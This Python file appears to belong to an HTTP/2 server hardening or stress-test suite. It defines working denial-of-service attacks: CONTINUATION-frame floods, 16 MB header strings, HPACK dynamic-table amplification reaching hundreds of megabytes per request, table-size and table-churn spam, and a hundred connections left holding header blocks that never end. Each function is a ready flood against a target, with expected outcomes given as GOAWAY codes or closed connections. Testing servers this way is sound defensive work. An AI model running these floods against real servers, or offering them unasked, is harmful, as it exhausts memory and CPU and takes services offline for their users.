"""Header blocks: long, endless, or small ones that stand for large ones."""
from registry import attack, flood
from streams import odd
from wire import (CONTINUATION, END_STREAM, HEADERS, Connection, Over, frame, headers, indexed, literal,
                  number, request_block)

CUT = ("goaway 1", "goaway 9", "goaway 11", "closed")


@attack(cpu=0.1, ends=CUT)
def small_continuations(target):
    begin = frame(HEADERS, END_STREAM, 1, request_block())
    return flood(target, frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 500_000, begin=begin)


@attack(cpu=0.1, ends=CUT)
def empty_continuations(target):
    begin = frame(HEADERS, END_STREAM, 1, request_block())
    return flood(target, frame(CONTINUATION, 0, 1) * 500_000, begin=begin)


@attack(cpu=0.2, ends=CUT)
def large_continuations(target):
    """100 MB of them."""
    begin = frame(HEADERS, END_STREAM, 1, request_block())
    return flood(target, frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 16_000)) * 6_000, begin=begin)


@attack(cpu=0.1, ends=CUT)
def long_string(target):
    """One header string of 16 MB."""
    return flood(target, headers(1, request_block(more=literal(b"a", b"b" * (16 << 20))), True))


@attack(cpu=0.1, ends=CUT)
def long_strings_on_4(target):
    return flood(target, headers(1, request_block(more=literal(b"a", b"b" * (8 << 20))), True), connections=4)


@attack(cpu=2.0, ends=CUT + ("open", "goaway 2"))
def many_small_headers(target):
    """50 requests, each with as many headers as its frames have room for."""
    block = request_block(more=indexed(16) * 130_000)  # accept-encoding: gzip, deflate
    return flood(target, b"".join(headers(each, block, True) for each in odd(50)))


@attack(cpu=2.0, ends=CUT + ("open", "goaway 2"))
def one_large_header_many_times(target):
    """An entry of 4 kB in the server's table, referred to by a byte each: 500 MB in each of 20 requests."""
    opened = headers(1, request_block(more=literal(b"a", b"b" * 3_900, kept=True)), True)
    block = request_block(more=indexed(62) * 130_000)
    return flood(target, b"".join(headers(each, block, True) for each in range(3, 43, 2)), begin=opened)


@attack(cpu=2.0, ends=CUT + ("open", "goaway 2"))
def one_large_trailer_many_times(target):
    opened = headers(1, request_block(more=literal(b"a", b"b" * 3_900, kept=True)), True)
    block = indexed(62) * 130_000
    return flood(target, b"".join(headers(each, request_block()) + headers(each, block, True)
                                  for each in range(3, 43, 2)), begin=opened)


@attack(cpu=1.5, ends=CUT + ("open", "goaway 2"))
def table_sizes(target):
    """Changes of the table's size instead of headers."""
    sizes = (number(0, 5, 0x20) + number(4096, 5, 0x20)) * 30_000
    return flood(target, b"".join(headers(each, sizes + request_block(), True) for each in odd(200)))


@attack(cpu=1.5, ends=CUT + ("open", "goaway 2"))
def table_churn(target):
    """Every header goes into the table and pushes others out."""
    more = b"".join(literal(b"n%d" % each, b"", kept=True) for each in range(18_000))
    return flood(target, b"".join(headers(each, request_block(more=more), True) for each in odd(100)))


@attack(cpu=0.1, memory=40, ends=CUT + ("open",))
def blocks_that_do_not_end(target):
    """100 connections, each with 120 kB of a block whose end does not come."""
    opened = [Connection(target) for _ in range(100)]
    block = request_block(more=literal(b"a", b"b" * 60_000) + literal(b"c", b"d" * 50_000))
    for each in opened:
        try:
            pieces = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
            each.send(frame(HEADERS, END_STREAM, 1, pieces[0]) +
                      b"".join(frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:]))
        except Over:
            pass
    endings = [each.ending(0) for each in opened]
    for each in opened:
        each.close()
    return endings


